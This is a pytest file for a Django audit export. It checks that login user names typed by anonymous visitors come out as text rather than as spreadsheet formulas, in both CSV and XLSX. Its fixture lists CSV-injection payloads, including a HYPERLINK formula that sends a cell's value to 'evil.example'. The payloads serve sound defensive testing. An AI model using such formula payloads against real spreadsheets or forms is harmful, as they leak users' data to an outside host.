"""The audit export writes what anonymous visitors typed (log-in user names) as text, never as a
spreadsheet formula (OWASP CSV injection), in both formats."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from keyprojects.security import audit

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
]
# The log-in form strips surrounding white space and folds full-width forms (NFKC); other
# callers may pass them through.
RECORDED = ["\t=1+2", "\r=1+2", "\r\n@x", "＝1+2", "－1"]


@pytest.fixture
def hostile(client, auditadmin):
    for name in HOSTILE:
        client.post(reverse("login"), {"username": name, "password": "x"})
    for name in RECORDED:
        audit.record("login_failed", result="failure", username=name)
    return HOSTILE + RECORDED


def test_csv_fields_start_with_an_apostrophe(client_for, auditadmin, hostile):
    response = client_for(auditadmin).get(
        reverse("security:audit_export"), {"format": "csv", "event": "login_failed"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [r[2] for r in rows[1:]] == ["'" + name for name in hostile]
    assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for field in r)


def test_xlsx_cells_are_text(client_for, auditadmin, hostile):
    response = client_for(auditadmin).get(
        reverse("security:audit_export"), {"format": "xlsx", "event": "login_failed"}
    )
    ws = load_workbook(io.BytesIO(response.content)).active
    names = [ws.cell(row=r, column=3) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in names] == hostile
    assert {c.data_type for row in ws.iter_rows() for c in row if c.value is not None} <= {"s", "n"}
